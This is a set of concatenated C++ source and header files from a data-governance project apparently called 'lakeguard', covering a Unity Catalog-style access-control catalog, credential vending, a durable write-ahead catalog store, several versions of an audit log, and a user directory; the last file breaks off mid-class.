void SerializeExpr(const ExprPtr& expr, ByteWriter* writer);
Result<ExprPtr> DeserializeExpr(ByteReader* reader);

}  // namespace lakeguard

#endif  // LAKEGUARD_EXPR_EXPR_SERDE_H_
