#ifndef LAKEGUARD_CATALOG_UNITY_CATALOG_H_
#define LAKEGUARD_CATALOG_UNITY_CATALOG_H_

#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "catalog/audit.h"
#include "catalog/catalog_store.h"
#include "catalog/principal.h"
#include "catalog/securable.h"
#include "common/clock.h"
#include "common/status.h"
#include "core/thread_annotations.h"
#include "expr/compiler/policy_eval_cache.h"
#include "storage/credential.h"

namespace lakeguard {

/// What the catalog knows about the compute making a request — the
/// *privilege scope* of §3.4/§4. The catalog reasons about the source of
/// every request: a Standard cluster can isolate user code and therefore may
/// receive policy expressions and raw-data credentials; a Dedicated
/// (privileged) cluster may not.
struct ComputeContext {
  std::string compute_id;
  /// True for Standard clusters / Serverless backends: the engine is
  /// trusted and user code is sandboxed, so FGAC can be enforced locally.
  bool can_isolate_user_code = true;
  /// True for Dedicated clusters: users have machine access, the engine is
  /// NOT a trust boundary.
  bool privileged_access = false;
  /// When set (dedicated group clusters, §4.2), permission checks use
  /// exactly this group's grants — dynamic permission down-scoping. Audit
  /// still records the real user.
  std::string downscope_group;
};

/// How a resolved relation must be enforced.
enum class EnforcementMode : uint8_t {
  /// Engine applies policies itself (SecureView injection). Policies and a
  /// user-bound storage credential are released to the engine.
  kLocal = 0,
  /// Compute must not see policy details or raw data; the engine must
  /// rewrite to a RemoteScan against a Serverless endpoint (eFGAC).
  kExternal = 1,
};

/// Result of resolving a relation name for a (user, compute) pair.
struct RelationResolution {
  SecurableType type = SecurableType::kTable;
  EnforcementMode enforcement = EnforcementMode::kLocal;

  /// Populated for tables and fresh materialized views.
  TableInfo table;
  /// Populated for (non-materialized or stale) views.
  ViewInfo view;

  /// FGAC policies — populated only when enforcement is kLocal. Under
  /// kExternal these are deliberately absent: the requesting cluster only
  /// learns *that* the object cannot be processed locally (§3.4).
  std::optional<RowFilterPolicy> row_filter;
  std::vector<ColumnMaskPolicy> column_masks;

  /// User-bound read token for the table's parts (kLocal tables only).
  std::string read_token;
};

/// Side-effect-free answer to "what must enforcement look like for this
/// (user, compute, relation)?" — the PlanVerifier's view of the catalog.
/// Unlike `RelationResolution` this carries no credential and is produced
/// without audit records or token vending, so the verifier can ask as often
/// as it likes without perturbing the security-relevant state it checks.
struct PolicyInspection {
  bool found = false;
  /// True for tables and fresh materialized views (relations that resolve to
  /// a ResolvedScan); false for logical views (SecureView expansion).
  bool is_table = false;
  EnforcementMode enforcement = EnforcementMode::kLocal;
  /// Definer of a logical view (the identity its expansion resolves under).
  std::string owner;
  /// Effective policies for this user: exempt-group masks already dropped,
  /// mirroring the decisions `ResolveRelation` bakes into the plan. Empty
  /// under kExternal (the policies live remotely).
  std::optional<RowFilterPolicy> row_filter;
  std::vector<ColumnMaskPolicy> column_masks;
  Schema schema;
  std::string storage_root;
  /// Catalog epoch the inspection was answered from.
  uint64_t epoch = 0;
};

/// The Unity Catalog analogue: one place that governs catalogs, schemas,
/// tables, views, functions and volumes; resolves relations per
/// (user, compute) pair; vends scoped storage credentials; and audits every
/// decision (§3.1).
///
/// Concurrency model (scale-out catalog, ROADMAP item 5): all governance
/// state lives in an immutable `CatalogState` published through an atomic
/// shared_ptr. Readers pin a snapshot with one acquire-load — no lock, no
/// contention with other readers — and observe a consistent point-in-time
/// view for the whole operation (snapshot isolation: never a half-applied
/// grant set or a row filter from one epoch with masks from another).
/// Writers serialize on `writer_mu_`, copy the current state, mutate the
/// copy, commit a write-ahead audit record (`AuditLog::RecordDurable`), and
/// publish the new state with the epoch bumped by one. The epoch is the
/// cache-invalidation signal: any plan prepared against epoch N must be
/// re-verified if executed when the catalog has moved past N.
class UnityCatalog {
 public:
  UnityCatalog(Clock* clock, CredentialAuthority* authority);

  UnityCatalog(const UnityCatalog&) = delete;
  UnityCatalog& operator=(const UnityCatalog&) = delete;

  // -- Durability --------------------------------------------------------------
  /// Wires a durable store under the publish path and restores its recovered
  /// image (exact epoch included). Must run before any mutation: attaching
  /// to a catalog that has already moved past epoch 0 is a
  /// FailedPrecondition. After this, every publish is write-ahead logged and
  /// a logging failure aborts the mutation unpublished (fail closed).
  Status AttachDurability(DurableCatalogStore* store);

  /// Puts the catalog into fail-closed mode: every subsequent mutation,
  /// resolution and credential vend returns `status`. Used when recovery
  /// finds corrupt durable state — a catalog that cannot trust its own
  /// state must refuse to authorize anything.
  void Poison(Status status);

  /// OK, or the poison status when the catalog is in fail-closed mode.
  Status health() const;

  // -- Principals ------------------------------------------------------------
  UserDirectory& users() { return users_; }
  const UserDirectory& users() const { return users_; }
  Status AddMetastoreAdmin(const std::string& user);
  bool IsMetastoreAdmin(const std::string& user) const;

  // -- Namespace management ----------------------------------------------------
  Status CreateCatalog(const std::string& as_user, const std::string& name);
  Status CreateSchema(const std::string& as_user,
                      const std::string& full_name);  // "cat.schema"
  Status CreateTable(const std::string& as_user, TableInfo info);
  Status CreateView(const std::string& as_user, ViewInfo info);
  Status CreateFunction(const std::string& as_user, FunctionInfo info);
  Status CreateVolume(const std::string& as_user, VolumeInfo info);
  Status DropTable(const std::string& as_user, const std::string& full_name);

  Result<TableInfo> GetTable(const std::string& full_name) const;
  Result<ViewInfo> GetView(const std::string& full_name) const;
  Result<VolumeInfo> GetVolume(const std::string& full_name) const;
  std::vector<std::string> ListTables() const;

  /// Marks a materialized view's stored data fresh/stale (refresh is driven
  /// by the platform, which owns an engine). `schema` types the stored data.
  Status SetMaterializationState(const std::string& view_name, bool fresh,
                                 const std::string& storage_root,
                                 const Schema& schema = Schema());

  // -- Grants ------------------------------------------------------------------
  Status Grant(const std::string& as_user, const std::string& securable,
               Privilege privilege, const std::string& principal);
  Status Revoke(const std::string& as_user, const std::string& securable,
                Privilege privilege, const std::string& principal);
  /// Direct + group-derived privilege check with owner/admin bypass and the
  /// USE CATALOG / USE SCHEMA hierarchy for data objects.
  bool HasPrivilege(const std::string& user, const std::string& securable,
                    Privilege privilege) const;
  /// All privileges `user` holds on `securable` (including derived).
  std::set<Privilege> EffectivePrivileges(const std::string& user,
                                          const std::string& securable) const;

  // -- Policies ----------------------------------------------------------------
  Status SetRowFilter(const std::string& as_user, const std::string& table,
                      RowFilterPolicy policy);
  Status ClearRowFilter(const std::string& as_user, const std::string& table);
  Status AddColumnMask(const std::string& as_user, const std::string& table,
                       ColumnMaskPolicy policy);
  Status ClearColumnMasks(const std::string& as_user,
                          const std::string& table);
  /// Replaces a table's whole policy set — row filter and all column masks —
  /// in one epoch, so concurrent readers observe either the previous or the
  /// new set, never a mixture.
  Status SetTablePolicies(const std::string& as_user, const std::string& table,
                          std::optional<RowFilterPolicy> row_filter,
                          std::vector<ColumnMaskPolicy> column_masks);

  // -- Query-path API ------------------------------------------------------------
  /// Resolves `name` for `user` on `compute`: privilege checks (with group
  /// down-scoping when requested), enforcement-mode decision, policy release
  /// and user-bound credential vending. This is THE security decision point.
  ///
  /// Existence is itself governed: when the caller lacks namespace
  /// visibility (USE CATALOG + USE SCHEMA) over `name`, the result is the
  /// same NotFound — with the same message — as for a relation that does not
  /// exist, so error text cannot be used as an existence oracle. The audit
  /// trail records the true reason.
  Result<RelationResolution> ResolveRelation(const std::string& user,
                                             const ComputeContext& compute,
                                             const std::string& name);

  /// Resolves a cataloged function for execution (kExecute check). Returns
  /// the function (body + trust-domain owner + egress allow-list). The same
  /// existence-oracle rule as `ResolveRelation` applies.
  Result<FunctionInfo> ResolveFunction(const std::string& user,
                                       const ComputeContext& compute,
                                       const std::string& name);

  /// Side-effect-free mirror of `ResolveRelation`'s enforcement decision:
  /// no privilege check, no audit record, no credential vending. Intended
  /// for the PlanVerifier, which must observe the expected policy shape of a
  /// plan without changing any state the plan's execution depends on.
  /// Answered entirely from one pinned snapshot.
  PolicyInspection InspectPolicies(const std::string& user,
                                   const ComputeContext& compute,
                                   const std::string& name) const;

  /// Side-effect-free fingerprint of the *effective* policy set of a locally
  /// enforced table for this (user, compute): the snapshot epoch plus the
  /// pinned ExprPtrs of the row-filter predicate slot (null when absent) and
  /// each non-exempt column mask, in catalog order. This is the
  /// PolicyEvalCache invalidation hook: an entry compiled at epoch N is
  /// revalidated after catalog drift by pointer-comparing this stamp —
  /// unrelated DDL revalidates without recompiling, while any policy
  /// replacement (even textually identical) produces fresh allocations and
  /// forces a recompile. `found` is false for missing relations, logical
  /// views, and externally enforced tables (nothing fusable to cache).
  PolicyVersionStamp InspectPolicyStamp(const std::string& user,
                                        const ComputeContext& compute,
                                        const std::string& name) const;

  /// Plain metadata lookup of a cataloged function (no EXECUTE check, no
  /// audit). Verifier-only: resolving policy expressions for comparison.
  Result<FunctionInfo> GetFunction(const std::string& name) const;

  /// The authority this catalog vends credentials through (verifier needs
  /// it to inspect the scope of tokens referenced by a plan).
  const CredentialAuthority* credential_authority() const {
    return authority_;
  }

  /// Vends a write credential for a table the user can MODIFY. Denied on
  /// privileged compute when the table carries FGAC policies.
  Result<StorageCredential> VendWriteCredential(const std::string& user,
                                                const ComputeContext& compute,
                                                const std::string& table);

  /// Vends a read credential for a volume prefix (raw-file workloads).
  Result<StorageCredential> VendVolumeCredential(const std::string& user,
                                                 const ComputeContext& compute,
                                                 const std::string& volume,
                                                 bool write);

  /// Token for the trusted control plane itself (table creation, MV refresh
  /// data management). Never handed to user code.
  const std::string& system_token() const { return system_token_; }

  AuditLog& audit() { return audit_; }
  const AuditLog& audit() const { return audit_; }

  /// Current catalog epoch: bumped by every published mutation. Plans bind
  /// the epoch they were verified under; executing a plan whose epoch lags
  /// the catalog requires re-verification (policy-change race hardening).
  uint64_t epoch() const;

  /// Default TTL of vended credentials.
  static constexpr int64_t kCredentialTtlMicros = 3600LL * 1000 * 1000;

 private:
  struct GrantEntry {
    std::string principal;
    Privilege privilege;
  };

  /// One immutable, point-in-time version of all governance state. Readers
  /// hold a shared_ptr to a published state; writers never mutate a
  /// published state in place.
  struct CatalogState {
    uint64_t epoch = 0;
    std::set<std::string> admins;
    std::map<std::string, std::string> catalogs;  // name -> owner
    std::map<std::string, std::string> schemas;   // "cat.schema" -> owner
    std::map<std::string, TableInfo> tables;
    std::map<std::string, ViewInfo> views;
    std::map<std::string, FunctionInfo> functions;
    std::map<std::string, VolumeInfo> volumes;
    std::map<std::string, std::vector<GrantEntry>> grants;
    std::map<std::string, std::string> owners;  // securable -> owner
  };
  using StatePtr = std::shared_ptr<const CatalogState>;

  /// Pins the current published snapshot (acquire-load; lock-free).
  StatePtr Snapshot() const { return state_.load(std::memory_order_acquire); }

  /// Begins a mutation: copies the current state for in-place edits. The
  /// caller must hold `writer_mu_` until `Publish`.
  std::shared_ptr<CatalogState> BeginMutation() const
      LG_REQUIRES(writer_mu_);
  /// Publishes `next` as the new current state with the epoch bumped. When a
  /// durable store is attached, the full image is write-ahead logged FIRST —
  /// a logging error leaves the in-memory state untouched (the epoch is
  /// never ahead of the WAL), and the caller must propagate the failure.
  /// The caller must have committed its audit record first (write-ahead).
  Status Publish(std::shared_ptr<CatalogState> next) LG_REQUIRES(writer_mu_);

  /// OK, or the poison status (writer-side twin of `health()`).
  Status HealthLocked() const LG_REQUIRES(writer_mu_);

  static CatalogImage ToImage(const CatalogState& state);
  static void FromImage(const CatalogImage& image, CatalogState* state);

  /// Principals whose grants count for `user` under `compute` (the user and
  /// their groups, or exactly the down-scoped group).
  std::vector<std::string> EffectivePrincipals(
      const std::string& user, const ComputeContext& compute) const;

  static bool PrincipalsHavePrivilege(
      const CatalogState& state, const std::vector<std::string>& principals,
      const std::string& securable, Privilege privilege);
  static bool PrincipalsOwn(const CatalogState& state,
                            const std::vector<std::string>& principals,
                            const std::string& securable);
  /// Full access check for data objects: USE chain + object privilege.
  bool CheckDataAccess(const CatalogState& state, const std::string& user,
                       const ComputeContext& compute,
                       const std::string& securable, Privilege privilege,
                       std::string* why) const;
  /// USE CATALOG + USE SCHEMA chain only — whether `user` may even learn
  /// that `securable` exists (the existence-oracle boundary).
  bool HasNamespaceVisibility(const CatalogState& state,
                              const std::string& user,
                              const ComputeContext& compute,
                              const std::string& securable) const;

  static Status RequireManage(const CatalogState& state,
                              const std::string& as_user,
                              const std::string& table);
  Status SplitQualified(const std::string& full_name,
                        std::vector<std::string>* parts, size_t want) const;

  Clock* clock_;
  CredentialAuthority* authority_;
  UserDirectory users_;
  AuditLog audit_;
  std::string system_token_;

  /// Serializes writers. Readers never touch it: they go straight to
  /// `state_`.
  mutable Mutex writer_mu_;
  std::atomic<StatePtr> state_;
  DurableCatalogStore* store_ LG_GUARDED_BY(writer_mu_) = nullptr;
  std::atomic<bool> poisoned_{false};
  Status poison_status_ LG_GUARDED_BY(writer_mu_);
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_UNITY_CATALOG_H_
