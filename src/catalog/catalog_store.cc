#include "catalog/catalog_store.h"

#include <utility>

namespace lakeguard {

Result<std::unique_ptr<DurableCatalogStore>> DurableCatalogStore::Open(
    DurableCatalogStoreOptions options) {
  std::unique_ptr<DurableCatalogStore> store(
      new DurableCatalogStore(options));
  DurableLogOptions log_options;
  log_options.dir = options.dir;
  log_options.max_segment_bytes = options.max_segment_bytes;
  LG_ASSIGN_OR_RETURN(
      store->log_,
      DurableLog::Open(std::move(log_options), &store->recovery_info_));
  const DurableLogRecovery& rec = store->recovery_info_;

  if (rec.has_checkpoint) {
    if (rec.checkpoint_stamp != rec.checkpoint_covered_lsn) {
      return Status::DataLoss(
          "catalog checkpoint violates the epoch/LSN lockstep (stamp " +
          std::to_string(rec.checkpoint_stamp) + ", covered LSN " +
          std::to_string(rec.checkpoint_covered_lsn) + ")");
    }
    Result<CatalogImage> decoded = DecodeCatalogImage(rec.checkpoint_payload);
    if (!decoded.ok()) {
      return decoded.status().WithContext("decoding catalog checkpoint");
    }
    store->recovered_ = std::move(decoded).value();
    if (store->recovered_.epoch != rec.checkpoint_stamp) {
      return Status::DataLoss(
          "catalog checkpoint image epoch " +
          std::to_string(store->recovered_.epoch) +
          " does not match its stamp " +
          std::to_string(rec.checkpoint_stamp));
    }
    store->has_recovered_ = true;
  }
  // Durability is physical state-shipping: every record is a complete image,
  // so recovery is simply "decode the newest one" — but every older record
  // must still decode and obey the lockstep, or the log has been tampered.
  for (const ReplayedRecord& record : rec.records) {
    if (record.stamp != record.lsn) {
      return Status::DataLoss(
          "catalog WAL record violates the epoch/LSN lockstep (stamp " +
          std::to_string(record.stamp) + " at LSN " +
          std::to_string(record.lsn) + ")");
    }
    LG_ASSIGN_OR_RETURN(CatalogImage image,
                        DecodeCatalogImage(record.payload));
    if (image.epoch != record.lsn) {
      return Status::DataLoss("catalog WAL image epoch " +
                              std::to_string(image.epoch) +
                              " does not match its LSN " +
                              std::to_string(record.lsn));
    }
    store->recovered_ = std::move(image);
    store->has_recovered_ = true;
  }
  return store;
}

Status DurableCatalogStore::LogPublish(const CatalogImage& image) {
  const uint64_t expected = log_->next_lsn();
  if (image.epoch != expected) {
    return Status::Internal("catalog publish epoch " +
                            std::to_string(image.epoch) +
                            " breaks the epoch/LSN lockstep (next LSN " +
                            std::to_string(expected) + ")");
  }
  std::vector<uint8_t> payload = EncodeCatalogImage(image);
  LG_RETURN_IF_ERROR(log_->AppendSync(image.epoch, payload));
  ++appends_since_checkpoint_;
  if (options_.checkpoint_every > 0 &&
      appends_since_checkpoint_ >= options_.checkpoint_every) {
    LG_RETURN_IF_ERROR(log_->WriteCheckpoint(image.epoch, payload));
    appends_since_checkpoint_ = 0;
  }
  return Status::OK();
}

}  // namespace lakeguard
