#ifndef LAKEGUARD_CATALOG_AUDIT_H_
#define LAKEGUARD_CATALOG_AUDIT_H_

#include <condition_variable>
#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "common/clock.h"
#include "common/serde.h"
#include "core/thread_annotations.h"
#include "storage/durable/durable_log.h"

namespace lakeguard {

/// One governed action. Every catalog decision — resolution, grant check,
/// credential vending, policy change — lands here with the *original* user
/// identity, even when permissions were group-down-scoped (§4.2) or the
/// request arrived via a cluster.
struct AuditEvent {
  /// Monotonic per-log sequence, assigned at enqueue. The durable replay
  /// dedup key: a crash between WAL append and acknowledgment makes the
  /// retried event appear twice on disk, and replay keeps one.
  uint64_t sequence = 0;
  int64_t time_micros = 0;
  std::string principal;
  std::string compute_id;
  std::string action;     // e.g. "RESOLVE_TABLE", "VEND_CREDENTIAL"
  std::string securable;  // full name of the object acted on
  bool allowed = false;
  std::string detail;
};

/// Serializes one audit event with the tagged binary serde (WAL payload).
std::vector<uint8_t> EncodeAuditEvent(const AuditEvent& event);
/// Decodes an event; truncation or malformed fields are typed errors.
Result<AuditEvent> DecodeAuditEvent(const std::vector<uint8_t>& bytes);

/// Append-only audit trail with simple query helpers.
///
/// Write model (scale-out catalog, ROADMAP item 5): query-path events
/// (`Record`) land in a bounded in-memory queue and are committed in
/// batches by a background flusher — the hot read path never pays the
/// committed-log append. Catalog *mutations* (grants, revokes, DDL, policy
/// changes) instead go through `RecordDurable`, which commits the event
/// synchronously BEFORE the caller publishes the new catalog state:
/// write-ahead ordering, so a crash after the mutation is acknowledged can
/// never lose its audit record. The queue is bounded and lossless — a full
/// queue makes the recording thread flush inline (backpressure, never a
/// drop) — and `Shutdown` (also run by the destructor) deterministically
/// drains everything.
///
/// Durability: after `AttachDurability`, committing a batch means appending
/// every event to the WAL and fsyncing ONCE for the whole batch (group
/// commit) before the events count as committed. Events whose flush fails
/// stay pending and are retried — durable-before-ack, lossless. Crash seam:
/// `audit.flush`.
class AuditLog {
 public:
  explicit AuditLog(Clock* clock);
  ~AuditLog();

  AuditLog(const AuditLog&) = delete;
  AuditLog& operator=(const AuditLog&) = delete;

  /// Wires a write-ahead log under the committed stream and replays prior
  /// records into it: `replayed` payloads (from `DurableLog::Open`) are
  /// decoded, deduplicated by sequence, and become the recovered committed
  /// prefix. Call before any traffic. A payload that fails to decode fails
  /// the attach (`kDataLoss` — fail closed, no partial audit trail).
  Status AttachDurability(DurableLog* wal,
                          const std::vector<ReplayedRecord>& replayed);

  /// Asynchronous: enqueues the event for batched commit. Used for
  /// query-path decisions (resolution, credential vending, denials).
  void Record(const std::string& principal, const std::string& compute_id,
              const std::string& action, const std::string& securable,
              bool allowed, const std::string& detail = "");

  /// Synchronous write-ahead record: drains the queue (preserving event
  /// order) and durably commits this event before returning. Callers
  /// mutating catalog state MUST call this — and check the status — before
  /// publishing the change; an error means the mutation must not publish.
  Status RecordDurable(const std::string& principal,
                       const std::string& compute_id,
                       const std::string& action, const std::string& securable,
                       bool allowed, const std::string& detail = "");

  /// Drains all queued events into the committed log.
  Status Flush();

  /// Deterministic shutdown: stops the background flusher, then drains the
  /// queue. Idempotent; the destructor calls it. Returns the final drain
  /// status (a simulated-death error means the tail stayed pending, exactly
  /// as a real crash would leave it).
  Status Shutdown();

  // Query helpers flush first, so callers always observe a complete log.
  std::vector<AuditEvent> All() const;
  std::vector<AuditEvent> ForPrincipal(const std::string& principal) const;
  std::vector<AuditEvent> ForSecurable(const std::string& securable) const;
  size_t DeniedCount() const;
  size_t size() const;
  void Clear();

  /// Number of batch commits the background flusher has performed.
  uint64_t flush_batches() const;

  /// Crash model hook (tests only): discards every queued-but-uncommitted
  /// event, as a process crash between event creation and flush would.
  /// Returns how many events were lost. Durable records are unaffected —
  /// that is the write-ahead guarantee under test.
  size_t DropPendingForCrashTest();

  /// Queue capacity before a recorder must flush inline (backpressure).
  static constexpr size_t kMaxPending = 256;

 private:
  AuditEvent MakeEvent(const std::string& principal,
                       const std::string& compute_id,
                       const std::string& action, const std::string& securable,
                       bool allowed, const std::string& detail) const;
  Status FlushLocked() const LG_REQUIRES(mu_);

  void FlusherLoop();

  Clock* clock_;
  mutable Mutex mu_;
  mutable std::condition_variable_any cv_;
  // Mutable: const query helpers flush the queue before reading.
  mutable std::vector<AuditEvent> pending_ LG_GUARDED_BY(mu_);
  mutable std::vector<AuditEvent> committed_ LG_GUARDED_BY(mu_);
  mutable uint64_t flush_batches_ LG_GUARDED_BY(mu_) = 0;
  mutable uint64_t next_sequence_ LG_GUARDED_BY(mu_) = 1;
  DurableLog* wal_ LG_GUARDED_BY(mu_) = nullptr;
  bool shutdown_ LG_GUARDED_BY(mu_) = false;
  bool flusher_stopped_ = false;  // accessed only by Shutdown/destructor
  std::thread flusher_;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_AUDIT_H_
