#ifndef LAKEGUARD_CATALOG_AUDIT_H_
#define LAKEGUARD_CATALOG_AUDIT_H_

#include <cstdint>
#include <mutex>
#include <string>
#include <vector>

#include "common/clock.h"

namespace lakeguard {

/// One governed action. Every catalog decision — resolution, grant check,
/// credential vending, policy change — lands here with the *original* user
/// identity, even when permissions were group-down-scoped (§4.2) or the
/// request arrived via a cluster.
struct AuditEvent {
  int64_t time_micros = 0;
  std::string principal;
  std::string compute_id;
  std::string action;     // e.g. "RESOLVE_TABLE", "VEND_CREDENTIAL"
  std::string securable;  // full name of the object acted on
  bool allowed = false;
  std::string detail;
};

/// Append-only audit trail with simple query helpers.
class AuditLog {
 public:
  explicit AuditLog(Clock* clock) : clock_(clock) {}

  void Record(const std::string& principal, const std::string& compute_id,
              const std::string& action, const std::string& securable,
              bool allowed, const std::string& detail = "");

  std::vector<AuditEvent> All() const;
  std::vector<AuditEvent> ForPrincipal(const std::string& principal) const;
  std::vector<AuditEvent> ForSecurable(const std::string& securable) const;
  size_t DeniedCount() const;
  size_t size() const;
  void Clear();

 private:
  Clock* clock_;
  mutable std::mutex mu_;
  std::vector<AuditEvent> events_;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_AUDIT_H_
