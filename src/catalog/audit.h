#ifndef LAKEGUARD_CATALOG_AUDIT_H_
#define LAKEGUARD_CATALOG_AUDIT_H_

#include <condition_variable>
#include <cstdint>
#include <string>
#include <thread>
#include <vector>

#include "common/clock.h"
#include "core/thread_annotations.h"

namespace lakeguard {

/// One governed action. Every catalog decision — resolution, grant check,
/// credential vending, policy change — lands here with the *original* user
/// identity, even when permissions were group-down-scoped (§4.2) or the
/// request arrived via a cluster.
struct AuditEvent {
  int64_t time_micros = 0;
  std::string principal;
  std::string compute_id;
  std::string action;     // e.g. "RESOLVE_TABLE", "VEND_CREDENTIAL"
  std::string securable;  // full name of the object acted on
  bool allowed = false;
  std::string detail;
};

/// Append-only audit trail with simple query helpers.
///
/// Write model (scale-out catalog, ROADMAP item 5): query-path events
/// (`Record`) land in a bounded in-memory queue and are committed in
/// batches by a background flusher — the hot read path never pays the
/// committed-log append. Catalog *mutations* (grants, revokes, DDL, policy
/// changes) instead go through `RecordDurable`, which commits the event
/// synchronously BEFORE the caller publishes the new catalog state:
/// write-ahead ordering, so a crash after the mutation is acknowledged can
/// never lose its audit record. The queue is bounded and lossless — a full
/// queue makes the recording thread flush inline (backpressure, never a
/// drop) — and the destructor drains everything (flush-on-shutdown).
class AuditLog {
 public:
  explicit AuditLog(Clock* clock);
  ~AuditLog();

  AuditLog(const AuditLog&) = delete;
  AuditLog& operator=(const AuditLog&) = delete;

  /// Asynchronous: enqueues the event for batched commit. Used for
  /// query-path decisions (resolution, credential vending, denials).
  void Record(const std::string& principal, const std::string& compute_id,
              const std::string& action, const std::string& securable,
              bool allowed, const std::string& detail = "");

  /// Synchronous write-ahead record: drains the queue (preserving event
  /// order) and commits this event before returning. Callers mutating
  /// catalog state MUST call this before publishing the change.
  void RecordDurable(const std::string& principal,
                     const std::string& compute_id, const std::string& action,
                     const std::string& securable, bool allowed,
                     const std::string& detail = "");

  /// Drains all queued events into the committed log.
  void Flush();

  // Query helpers flush first, so callers always observe a complete log.
  std::vector<AuditEvent> All() const;
  std::vector<AuditEvent> ForPrincipal(const std::string& principal) const;
  std::vector<AuditEvent> ForSecurable(const std::string& securable) const;
  size_t DeniedCount() const;
  size_t size() const;
  void Clear();

  /// Number of batch commits the background flusher has performed.
  uint64_t flush_batches() const;

  /// Crash model hook (tests only): discards every queued-but-uncommitted
  /// event, as a process crash between event creation and flush would.
  /// Returns how many events were lost. Durable records are unaffected —
  /// that is the write-ahead guarantee under test.
  size_t DropPendingForCrashTest();

  /// Queue capacity before a recorder must flush inline (backpressure).
  static constexpr size_t kMaxPending = 256;

 private:
  AuditEvent MakeEvent(const std::string& principal,
                       const std::string& compute_id,
                       const std::string& action, const std::string& securable,
                       bool allowed, const std::string& detail) const;
  void FlushLocked() const LG_REQUIRES(mu_);
  void FlusherLoop();

  Clock* clock_;
  mutable Mutex mu_;
  mutable std::condition_variable_any cv_;
  // Mutable: const query helpers flush the queue before reading.
  mutable std::vector<AuditEvent> pending_ LG_GUARDED_BY(mu_);
  mutable std::vector<AuditEvent> committed_ LG_GUARDED_BY(mu_);
  mutable uint64_t flush_batches_ LG_GUARDED_BY(mu_) = 0;
  bool shutdown_ LG_GUARDED_BY(mu_) = false;
  std::thread flusher_;
};

}  // namespace lakeguard

#endif  // LAKEGUARD_CATALOG_AUDIT_H_
