#include "catalog/principal.h"

namespace lakeguard {

Status UserDirectory::AddUser(const std::string& user) {
  std::lock_guard<std::mutex> lock(mu_);
  if (!users_.insert(user).second) {
    return Status::AlreadyExists("user '" + user + "' already exists");
  }
  return Status::OK();
}

Status UserDirectory::AddGroup(const std::string& group) {
  std::lock_guard<std::mutex> lock(mu_);
  if (group_members_.count(group)) {
    return Status::AlreadyExists("group '" + group + "' already exists");
  }
  group_members_[group] = {};
  return Status::OK();
}

Status UserDirectory::AddUserToGroup(const std::string& user,
                                     const std::string& group) {
  std::lock_guard<std::mutex> lock(mu_);
  if (!users_.count(user)) {
    return Status::NotFound("user '" + user + "' does not exist");
  }
  auto it = group_members_.find(group);
  if (it == group_members_.end()) {
    return Status::NotFound("group '" + group + "' does not exist");
  }
  it->second.insert(user);
  return Status::OK();
}

Status UserDirectory::RemoveUserFromGroup(const std::string& user,
                                          const std::string& group) {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = group_members_.find(group);
  if (it == group_members_.end()) {
    return Status::NotFound("group '" + group + "' does not exist");
  }
  it->second.erase(user);
  return Status::OK();
}

bool UserDirectory::UserExists(const std::string& user) const {
  std::lock_guard<std::mutex> lock(mu_);
  return users_.count(user) > 0;
}

bool UserDirectory::GroupExists(const std::string& group) const {
  std::lock_guard<std::mutex> lock(mu_);
  return group_members_.count(group) > 0;
}

bool UserDirectory::IsMember(const std::string& user,
                             const std::string& group) const {
  std::lock_guard<std::mutex> lock(mu_);
  auto it = group_members_.find(group);
  return it != group_members_.end() && it->second.count(user) > 0;
}

Status UserDirectory::SetAttribute(const std::string& user,
                                   const std::string& key,
                                   const std::string& value) {
  std::lock_guard<std::mutex> lock(mu_);
  if (!users_.count(user)) {
    return Status::NotFound("user '" + user + "' does not exist");
  }
  attributes_[user][key] = value;
  return Status::OK();
}

Result<std::string> UserDirectory::GetAttribute(const std::string& user,
                                                const std::string& key) const {
  std::lock_guard<std::mutex> lock(mu_);
  auto user_it = attributes_.find(user);
  if (user_it != attributes_.end()) {
    auto attr_it = user_it->second.find(key);
    if (attr_it != user_it->second.end()) return attr_it->second;
  }
  return Status::NotFound("no attribute '" + key + "' on user '" + user +
                          "'");
}

std::vector<std::string> UserDirectory::GroupsOf(
    const std::string& user) const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::string> out;
  for (const auto& [group, members] : group_members_) {
    if (members.count(user)) out.push_back(group);
  }
  return out;
}

std::vector<std::string> UserDirectory::MembersOf(
    const std::string& group) const {
  std::lock_guard<std::mutex> lock(mu_);
  std::vector<std::string> out;
  auto it = group_members_.find(group);
  if (it != group_members_.end()) {
    out.assign(it->second.begin(), it->second.end());
  }
  return out;
}

}  // namespace lakeguard
