#ifndef LAKEGUARD_CATALOG_CATALOG_STORE_H_
#define LAKEGUARD_CATALOG_CATALOG_STORE_H_

#include <cstdint>
#include <memory>
#include <string>

#include "catalog/catalog_serde.h"
#include "common/status.h"
#include "storage/durable/durable_log.h"

namespace lakeguard {

struct DurableCatalogStoreOptions {
  std::string dir;
  /// A checkpoint is written after this many logged publishes (bounds WAL
  /// replay length at recovery).
  uint64_t checkpoint_every = 64;
  uint64_t max_segment_bytes = 256 * 1024;
};

/// Durable backing for the catalog's published epochs. Epoch and LSN move in
/// lockstep — the image published as epoch N is the WAL record with LSN N
/// and stamp N — which turns the WAL's strict-LSN-continuity check into an
/// epoch-monotonicity check: a rolled-back checkpoint or a dropped record
/// surfaces as `kDataLoss` at open, never as a silently older catalog.
class DurableCatalogStore {
 public:
  /// Opens the store and recovers the newest durable image. Corruption,
  /// tampering, or a lockstep violation fails the open with `kDataLoss`.
  static Result<std::unique_ptr<DurableCatalogStore>> Open(
      DurableCatalogStoreOptions options);

  DurableCatalogStore(const DurableCatalogStore&) = delete;
  DurableCatalogStore& operator=(const DurableCatalogStore&) = delete;

  /// True when recovery found at least one durable epoch.
  bool has_recovered_state() const { return has_recovered_; }
  /// The newest recovered image (epoch 0 default image when none).
  const CatalogImage& recovered() const { return recovered_; }
  const DurableLogRecovery& recovery_info() const { return recovery_info_; }

  /// Durably commits one published epoch (write-ahead: callers must not
  /// expose the new state until this returns OK). `image.epoch` must be
  /// exactly the next LSN. Periodically also writes a checkpoint.
  Status LogPublish(const CatalogImage& image);

  DurableLog& log() { return *log_; }

 private:
  explicit DurableCatalogStore(DurableCatalogStoreOptions options)
      : options_(std::move(options)) {}

  DurableCatalogStoreOptions options_;
  std::unique_ptr<DurableLog> log_;
  DurableLogRecovery recovery_info_;
  bool has_recovered_ = false;
